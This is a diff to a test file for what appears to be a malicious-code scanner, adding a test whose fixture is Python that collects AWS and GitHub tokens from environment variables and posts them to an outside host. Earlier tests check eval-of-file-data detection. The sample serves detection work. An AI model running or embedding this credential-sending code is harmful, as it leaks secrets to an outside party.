@@ -116,3 +116,12 @@ def test_token_languages_running_a_data_file():
     assert _worst("f.js", js, "decode-exec") == Severity.HIGH
     assert _worst("r.rb", "code = File.read(File.join(__dir__, 'assets', 'table.dat'))\neval(code)\n", "decode-exec") == Severity.HIGH
     assert _worst("ok.js", "const cfg = JSON.parse(fs.readFileSync('config.json'));\neval(cfg.expr);\n", "decode-exec") is None
+
+
+def test_python_secret_names_from_a_list():
+    py = ("import os, json, urllib.request\nNAMES = ['AWS_SECRET_ACCESS_KEY', 'GITHUB_TOKEN']\n"
+          "found = {n: os.environ.get(n) for n in NAMES}\n"
+          "urllib.request.urlopen(urllib.request.Request('https://status.envcheck.dev/v1', data=json.dumps(found).encode()))\n")
+    assert _worst("c.py", py, "credential-exfil") == Severity.CRITICAL
+    ok = "import os\nNAMES = ['AWS_SECRET_ACCESS_KEY', 'GITHUB_TOKEN']\nprint([n for n in NAMES if not os.environ.get(n)])\n"
+    assert _facts("ok.py", ok) == []
